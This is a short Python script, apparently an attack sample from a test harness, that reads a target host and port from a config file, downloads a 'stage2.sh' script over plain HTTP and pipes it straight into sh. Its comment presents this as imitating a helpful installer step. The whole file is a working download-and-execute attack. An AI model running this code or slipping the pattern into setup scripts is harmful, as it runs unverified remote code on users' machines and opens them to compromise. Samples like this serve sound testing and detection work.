# curl-pipe-bash (Python): download the "installer" with urllib and pipe it
# into sh, the way a helpful setup step does.
import subprocess, sys, urllib.request
T = dict(l.rstrip("\n").split("=", 1) for l in open(globals().get("TARGETS") or sys.argv[1]) if "=" in l and not l.startswith("#"))
T = {k: v.strip("'") for k, v in T.items()}

url = f"http://{T['T_TCP_HOST']}:{T['T_TCP_PORT']}/stage2.sh"
script = urllib.request.urlopen(url, timeout=5).read()
subprocess.run(["sh"], input=script, timeout=5)
